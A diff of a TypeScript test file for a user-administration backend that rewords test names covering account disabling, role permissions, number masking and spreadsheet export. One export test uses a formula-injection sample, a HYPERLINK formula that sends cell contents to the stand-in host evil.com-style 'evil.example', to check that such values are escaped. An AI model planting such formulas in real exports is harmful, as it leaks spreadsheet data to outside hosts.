@@ -32,7 +32,7 @@ afterEach(() => staff.dissolve());
 const update = (params: AuthUpdateUserRolesParams, as: Who | Record<string, string> = 'admin') =>
   backend.call('auth.updateUserRoles', params, as);
 
-/** Requests that have all been let in before the first of them may change anything. */
+/** Sends requests that are all authorised before the first one may change anything. */
 async function atOnce<T>(ask: () => Promise<T>[]): Promise<T[]> {
   return backend.db
     .transaction(async (tx) => {
@@ -48,7 +48,7 @@ async function atOnce<T>(ask: () => Promise<T>[]): Promise<T[]> {
 }
 
 describe('enabling and disabling', () => {
-  it('is felt at the next request: the session is there and answers why', async () => {
+  it('takes effect at the next request, which is refused with the reason', async () => {
     const id = await staff.hire('one', '内容运营');
     const headers = await backend.logIn(id);
     expect(await update({ userIds: [id], status: 'disabled' }, 'leader')).toMatchObject({ code: 0, data: { done: 1 } });
@@ -57,7 +57,7 @@ describe('enabling and disabling', () => {
     expect(await backend.call('user.getUserInfo', {}, headers)).toMatchObject({ code: 0 });
     expect((await staff.read(id)).roleIds).toEqual([roleIdOf('内容运营')]);
   });
-  it('goes with roles in one request, all or nothing', async () => {
+  it('can be combined with roles in one request, atomically', async () => {
     const id = await staff.hire('one', '内容运营');
     expect(await update({ userIds: [id], roleIds: [999], status: 'disabled' })).toMatchObject({
       code: REFUSED.invalid,
@@ -68,7 +68,7 @@ describe('enabling and disabling', () => {
     });
     expect(await staff.read(id)).toMatchObject({ status: 'disabled', roleIds: [roleIdOf('只读访客')] });
   });
-  it('needs something to change', async () => {
+  it('needs at least one change', async () => {
     expect(await update({ userIds: [backend.ids.viewer] })).toMatchObject({
       code: REFUSED.invalid,
       errors: [{ field: 'roleIds', message: MESSAGES.nothingToChange }],
@@ -82,7 +82,7 @@ describe('enabling and disabling', () => {
       errors: [{ field: 'userIds' }],
     });
   });
-  it('spares oneself, administrators from leaders, and other departments', async () => {
+  it('is refused for oneself, for administrators by leaders, and for other departments', async () => {
     const disable = (userId: number, as: Who) => update({ userIds: [userId], status: 'disabled' }, as);
     expect(await disable(backend.ids.leader, 'leader')).toMatchObject({
       code: REFUSED.invalid,
@@ -101,7 +101,7 @@ describe('enabling and disabling', () => {
     expect(await disable(backend.ids.viewer, 'operator')).toMatchObject({ code: REFUSED.forbidden });
     expect(await disable(99_999, 'admin')).toMatchObject({ code: REFUSED.notFound });
   });
-  it('leaves an administrator when two disable each other at the same time', async () => {
+  it('leaves one administrator if two disable each other concurrently', async () => {
     const id = await staff.hire('second', '管理员', { adminLevel: 1 });
     const second = await backend.logIn(id);
     const answers = await atOnce(() => [
@@ -115,7 +115,7 @@ describe('enabling and disabling', () => {
 });
 
 describe('numbers in the list', () => {
-  it('are masked, with a cipher that names them; where there is none there is nothing to open', async () => {
+  it('are masked with a cipher that refers to them; missing numbers have none', async () => {
     const id = await staff.hire('one', '内容运营');
     await staff.hire('two', '内容运营', { mobile: '' });
     const rows = (await backend.ask('auth.queryUserList', { keyword: 'o' }, 'leader')).list;
@@ -154,7 +154,7 @@ describe('the export', () => {
   const namesOf = async (params: AuthExportUserListParams, as?: Who) =>
     (await rowsOf(params, as)).rows.map((row) => row[1]);
 
-  it('is 用户列表.xlsx with the headings and words of the contract, numbers masked', async () => {
+  it("is 用户列表.xlsx with the contract's headings and labels, numbers masked", async () => {
     const id = await staff.hire('export.one', '内容运营', {
       email: 'n@atelier.example',
       status: 'disabled',
@@ -198,7 +198,7 @@ describe('the export', () => {
       ],
     ]);
   });
-  it('has what the filters and the list have, newest first, and nobody of other departments', async () => {
+  it('has the rows of the list with the same filters, newest first, without other departments', async () => {
     const list = async (as: Who) => (await backend.ask('auth.queryUserList', {}, as)).list.map((row) => row.loginName);
     expect(await namesOf({}, 'admin')).toEqual(await list('admin'));
     expect(await namesOf({}, 'leader')).toEqual(await list('leader'));
@@ -207,12 +207,12 @@ describe('the export', () => {
     expect(await namesOf({ departmentId: 2 })).toEqual(['stranger']);
     expect(await namesOf({ roleId: roleIdOf('只读访客') })).toEqual(['viewer']);
   });
-  it('of a selection has those of it that the person sees', async () => {
+  it('of a selection contains the rows of it that the person may see', async () => {
     const { viewer, stranger } = backend.ids;
     expect(await namesOf({ userIds: [viewer, stranger] }, 'leader')).toEqual(['viewer']);
     expect((await namesOf({ userIds: [viewer, stranger] })).toSorted()).toEqual(['stranger', 'viewer']);
   });
-  it('computes nothing that people call themselves', async () => {
+  it('escapes names that look like formulas', async () => {
     const id = await staff.hire('formula', '内容运营', {
       userName: '=HYPERLINK("https://evil.example?"&A1,"x")',
       email: '@SUM(1+1)',
@@ -228,7 +228,7 @@ describe('the export', () => {
     ).toBe(true);
     expect(cells[0]!.value).toBe('\'=HYPERLINK("https://evil.example?"&A1,"x")');
   });
-  it('is refused in an envelope', async () => {
+  it('returns refusals as an envelope', async () => {
     for (const [as, code] of [
       ['operator', REFUSED.forbidden],
       ['viewer', REFUSED.forbidden],
@@ -247,7 +247,7 @@ describe('the export', () => {
         { departmentId: 77, name: '部门' },
         { departmentId: 78, name: '大部门' },
       ]);
-      // Twenty in each moment, so that pages end within one.
+      // Twenty accounts per creation time, so that pages end between equal times.
       await backend.db.execute(sql`insert into account (login_name, user_name, department_id, create_time)
         select 'many' || n, md5(n::text), case when n <= 4000 then 77 else 78 end, now() - (n / 20) * interval '1 minute' from generate_series(1, 20000) n`);
     });
@@ -256,12 +256,12 @@ describe('the export', () => {
       await backend.db.delete(department).where(inArray(department.departmentId, [77, 78]));
     });
 
-    it('has each person once, also those made in the same moment', async () => {
+    it('contains each person once, also with equal creation times', async () => {
       const names = await namesOf({ departmentId: 77 });
       expect(names).toHaveLength(4_000);
       expect(new Set(names).size).toBe(4_000);
     });
-    it('asks the database for each page once', async () => {
+    it('queries each page once', async () => {
       let asked = 0;
       const select = (...fields: Parameters<typeof backend.db.select>) => ((asked += 1), backend.db.select(...fields));
       const db = Object.assign(Object.create(backend.db) as Backend['db'], { select });
@@ -274,7 +274,7 @@ describe('the export', () => {
       const { body } = answer as FileAnswer & { body: Readable };
       let bytes = 0;
       for await (const chunk of body as AsyncIterable<Buffer>) bytes += chunk.length;
-      // Keys once, then 41 pages; each statement is made of two selects.
+      // One query for keys and 41 pages; each of them has two selects.
       expect(asked).toBe(2 * (1 + 41));
       expect(bytes).toBeGreaterThan(500_000);
     });
